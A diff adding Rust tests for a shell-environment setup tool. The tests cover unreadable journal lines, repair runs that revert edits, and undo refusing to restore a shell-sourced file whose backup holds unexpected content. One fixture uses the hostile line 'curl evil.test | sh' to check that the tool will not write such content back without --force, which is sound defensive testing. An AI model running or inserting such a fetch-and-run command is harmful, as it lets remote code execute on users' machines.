@@ -191,6 +191,73 @@ fn what_a_line_told_that_does_not_read_is_said_by_its_number_and_the_journal_sta
 }
 
 #[test]
+fn lines_that_nobody_can_read_are_counted_and_named_and_the_others_are_taken_back() {
+    for command in [["undo", "--yes"], ["undo", "--dry-run"], ["uninstall", "--yes"], ["history", "--yes"]] {
+        let home = Home::new();
+        let lines = home.lines("7-1");
+        let odd = r#"{"schema":1,"run":"7-1","time":7,"event":"dance"}"#;
+        let (begin, rest) = (&lines[0], joined(&lines[1..]));
+        home.journal(&format!("{begin}\nnot JSON at all\n{odd}\n{rest}[]\n"));
+        let document = fits(&home.program.run(&[command[0], "--json", "--dry-run"]).out);
+        let last = lines.len() + 3;
+        assert_eq!(document["unread"], 3, "{command:?}: {document}");
+        assert_eq!(document["unread_lines"], json!([2, 3, last]), "{command:?}: {document}");
+        let said = home.program.run(&command);
+        let named = format!("3 lines of the journal cannot be read (2, 3, {last})");
+        let words = said.out.split_whitespace().collect::<Vec<_>>().join(" ");
+        assert!(said.code == 0 && words.contains(&named), "{command:?}: {said:?}");
+        let back = command[0] != "history" && command[1] == "--yes";
+        assert_eq!(home.text(".profile"), if back { "theirs\n" } else { "ours\n" }, "{command:?}");
+    }
+    let home = Home::new();
+    home.journal("garbage\n");
+    let said = home.program.run(&["undo", "--yes"]);
+    assert!(said.code == 0 && said.out.contains("line 1 of the journal"), "{said:?}");
+}
+
+#[test]
+fn a_run_that_goes_on_shows_the_paths_whose_edits_it_takes_back_first() {
+    let home = Home::new();
+    let mut lines = home.lines("7-1");
+    lines.truncate(2);
+    lines[0]["command"] = json!("repair");
+    lines[0]["only"] = json!(["go.flags"]);
+    home.journal(&joined(&lines));
+    let said = home.program.run(&["repair", "go.flags", "--yes", "--offline"]);
+    let path = home.path(".profile").display().to_string();
+    assert_eq!(home.text(".profile"), "theirs\n", "{said:?}");
+    assert!(said.err.contains("7-1") && said.err.contains(&path), "{said:?}");
+}
+
+#[test]
+fn what_comes_back_into_a_file_that_shells_run_is_what_we_write_or_a_person_says_so() {
+    let own = "# Made by fyne-setup; `fyne-setup uninstall` takes it away.\nexport GOPROXY='direct'\n";
+    for (before, comes) in [(own, true), ("curl evil.test | sh\n", false), (&*format!("{own}id\n"), false)] {
+        let home = Home::new();
+        let mut lines = home.lines("7-1");
+        let (was, env) = (Digest::of(before.as_bytes()), home.path(".config/fyne-setup/env"));
+        fs::create_dir_all(env.parent().expect("a parent")).expect("made");
+        fs::write(&env, "ours\n").expect("written");
+        fs::write(home.data().join("backups").join(was.to_string()), before).expect("written");
+        let intent = lines.iter_mut().find(|it| it["action"]["kind"] == "edit-profile").expect("an edit");
+        intent["action"] = json!({"kind": "write-env-files", "path": [], "variables": []});
+        intent["undo"][0]["path"] = json!(env);
+        intent["undo"][0]["was"] = json!(was);
+        home.journal(&joined(&lines));
+        let said = home.program.run(&["undo", "--yes", "--json"]);
+        let now = fs::read_to_string(&env).expect("there");
+        if comes {
+            assert!(said.code == 0 && now == before, "{said:?}");
+            continue;
+        }
+        assert!(said.code == 1 && now == "ours\n", "{said:?}");
+        assert_eq!(fits(&said.out)["left"][0]["id"], "undo.unwritten", "{said:?}");
+        let forced = home.program.run(&["undo", "7-1", "--force", "--yes"]);
+        assert!(forced.code == 0 && fs::read_to_string(&env).expect("there") == before, "{forced:?}");
+    }
+}
+
+#[test]
 fn the_question_shows_every_path_that_will_be_touched() {
     let home = Home::new();
     home.one_run();
